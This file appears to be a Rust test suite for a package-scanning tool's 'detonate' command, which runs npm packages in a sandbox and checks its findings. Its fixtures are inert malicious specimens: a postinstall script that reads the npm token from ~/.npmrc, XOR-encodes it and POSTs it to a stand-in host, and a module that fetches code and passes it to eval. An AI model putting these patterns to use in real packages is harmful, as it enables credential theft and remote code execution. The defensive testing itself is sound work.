//! `stockade detonate`: what a person sees of inert specimens and of an honest package.

use serde_json::Value;

use crate::machine::{Ended, Machine};

/// Reads the npm token, hides it under a random key of its own, and sends it to a host that cannot exist.
const CIPHER_THEFT: &[(&str, &[u8])] = &[
    (
        "suspect/package.json",
        br#"{"name": "suspect", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}, "main": "index.js"}"#,
    ),
    ("suspect/index.js", b"exports.pad = (text, width) => text.padStart(width);\n"),
    (
        "suspect/setup.js",
        b"const fs = require('fs');\nconst key = require('crypto').randomBytes(64);\nconst text = fs.readFileSync(require('os').homedir() + '/.npmrc');\nconst out = Buffer.from(text.map((byte, i) => byte ^ key[i % 64]));\nrequire('https').request('https://drop.invalid/c', {method: 'POST'}).end(out);\n",
    ),
];

const FETCH_THEN_EVAL: &[(&str, &[u8])] = &[
    ("suspect/package.json", br#"{"name": "suspect", "version": "1.0.0"}"#),
    (
        "suspect/index.js",
        b"fetch('https://drop.invalid/p').then((reply) => reply.json()).then((data) => {\n  (0, eval)(data.code);\n});\n",
    ),
];

const HONEST: &[(&str, &[u8])] = &[
    (
        "pad/package.json",
        br#"{"name": "pad", "version": "1.0.0", "bin": "cli.js", "scripts": {"postinstall": "node hello.js"}}"#,
    ),
    ("pad/hello.js", b"console.log('thanks, ' + (process.env.npm_package_name || ''));\n"),
    (
        "pad/index.js",
        b"const path = require('path');\nmodule.exports = (text) => path.join('a', text).padStart(8);\nif (process.env.DEBUG) console.log('pad');\n",
    ),
    ("pad/cli.js", b"#!/usr/bin/env node\nconsole.log(require('./')(process.argv[2] || 'x'));\n"),
];

fn detonate(files: &[(&str, &[u8])], arguments: &[&str]) -> Ended {
    Machine::with(files).run(&[&["detonate", "--offline"], arguments].concat())
}

fn json(files: &[(&str, &[u8])], target: &str, status: i32) -> Value {
    let ended = detonate(files, &[target, "--format", "json"]).with_status(status);
    serde_json::from_str(&ended.stdout).unwrap()
}

#[test]
fn a_token_under_a_cipher_is_proven_to_leave_and_every_step_has_its_line() {
    let ended = detonate(CIPHER_THEFT, &["suspect"]).with_status(2);
    let ended = ended.says("malicious  suspect@1.0.0").says("World: CI on Linux");
    let ended = ended
        .says("sends the npm token")
        .says("changes with it, and nothing else")
        .says("setup.js:5")
        .says("at install, postinstall");
    ended.says("setup.js:3  reads").says("the same").says("Ran in an embedded engine");
}

#[test]
fn a_proof_names_the_secret_the_place_and_all_worlds() {
    let result = json(CIPHER_THEFT, "suspect", 2);
    let proof = &result["proofs"][0];
    assert_eq!((proof["kind"].as_str(), proof["place"]["line"].as_u64()), (Some("secret-decides"), Some(5)));
    assert!(proof["story"].as_str().unwrap().contains("npm token (.npmrc)"), "{proof}");
    assert_eq!(proof["worlds"].as_array().unwrap().len(), 3);
    assert_eq!(
        result["containment"].as_str(),
        Some(if cfg!(target_os = "linux") { "full" } else { "partial" })
    );
}

#[test]
fn fetched_code_that_runs_is_proven_and_its_layer_is_written() {
    let machine = Machine::with(FETCH_THEN_EVAL);
    let layers = machine.project().join("out");
    let arguments = ["detonate", "--offline", "suspect", "--layers", layers.to_str().unwrap()];
    let ended = machine.run(&arguments).with_status(2);
    ended.says("runs a program that the network sent").says("index.js:2");
    let written: Vec<_> =
        std::fs::read_dir(&layers).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert!(written.iter().any(|name| name.to_string_lossy().contains("eval")), "{written:?}");
}

#[test]
fn an_honest_package_is_clean_in_every_world() {
    let ended = detonate(HONEST, &["pad"]).with_status(0);
    ended.says("Nothing is proven").says("clean  pad@1.0.0");
}

#[test]
fn one_world_is_run_where_one_is_asked_for() {
    let ended = detonate(HONEST, &["pad", "--world", "windows"]).with_status(0);
    assert!(ended.stdout.contains("developer on Windows") && !ended.stdout.contains("Linux"), "{ended:?}");
}

#[test]
fn the_same_release_gives_the_same_document() {
    let machine = Machine::with(CIPHER_THEFT);
    let run = || machine.run(&["detonate", "--offline", "suspect", "--format", "json"]).stdout;
    assert_eq!(run(), run());
}

#[test]
fn what_cannot_be_had_is_a_gap_and_what_is_nothing_an_error() {
    let ended = detonate(&[], &["left-alone@1.0.0"]).with_status(3);
    ended.says("Not seen").says("unknown");
    detonate(&[], &["./nowhere"]).with_status(64).with_error("S010");
}

#[test]
fn a_broken_archive_is_a_gap() {
    let machine = Machine::with(&[("broken-1.0.0.tgz", b"\x1f\x8b\x08nothing" as &[u8])]);
    machine.run(&["detonate", "--offline", "broken-1.0.0.tgz"]).with_status(3).says("Not seen");
}

/// Sends the token of a forge to the forge: proven to leave, and the forge's own business.
const OWN_BUSINESS: &[(&str, &[u8])] = &[
    ("release/package.json", br#"{"name": "release", "version": "1.0.0", "main": "index.js"}"#),
    (
        "release/index.js",
        b"fetch('https://api.github.com/user', {headers: {authorization: 'token ' + process.env.GITHUB_TOKEN}}).catch(() => {});\n",
    ),
];

#[test]
fn the_verdict_and_its_reasons_are_those_of_a_deep_scan() {
    for files in [CIPHER_THEFT, FETCH_THEN_EVAL, HONEST, OWN_BUSINESS] {
        let machine = Machine::with(files);
        let name = files[0].0.split('/').next().unwrap();
        let (scanned, scan) = machine.scan_json(&[name, "--as", "package", "--deep"]);
        let detonated = machine.run(&["detonate", "--offline", name, "--format", "json"]);
        let document: Value = serde_json::from_str(&detonated.stdout).unwrap();
        assert_eq!(detonated.status, scanned.status, "{name}");
        for field in ["purl", "verdict", "chains", "findings", "capabilities", "is_examined"] {
            assert_eq!(document[field], scan["releases"][0][field], "{name}: {field}");
        }
    }
}

#[test]
fn what_is_proven_and_nobody_else_s_business_is_told_and_accuses_nobody() {
    let ended = detonate(OWN_BUSINESS, &["release"]).with_status(0);
    ended.says("clean  release@1.0.0").says("Seen too, and not held against it").says("github.com");
}

#[test]
fn a_page_is_a_world_of_its_own() {
    let page: &[(&str, &[u8])] = &[
        ("shop/package.json", br#"{"name": "shop", "version": "1.0.0", "browser": "page.js"}"#),
        ("shop/page.js", b"document.title = 'x'; localStorage.setItem('a', window.location.href);\n"),
    ];
    let ended = detonate(page, &["shop", "--world", "page"]).with_status(0);
    assert!(ended.stdout.contains("web page with a wallet") && !ended.stdout.contains("Linux"), "{ended:?}");
    detonate(HONEST, &["pad", "--world", "page"]).with_status(0).says("No code was run.");
}

#[test]
fn several_worlds_are_run_in_their_usual_order() {
    let result = detonate(HONEST, &["pad", "--world", "windows,linux", "--format", "json"]).with_status(0);
    let document: Value = serde_json::from_str(&result.stdout).unwrap();
    let names: Vec<_> =
        document["worlds"].as_array().unwrap().iter().map(|world| world["world"].as_str().unwrap()).collect();
    assert_eq!(names[..2], ["CI on Linux", "developer on Windows"]);
}
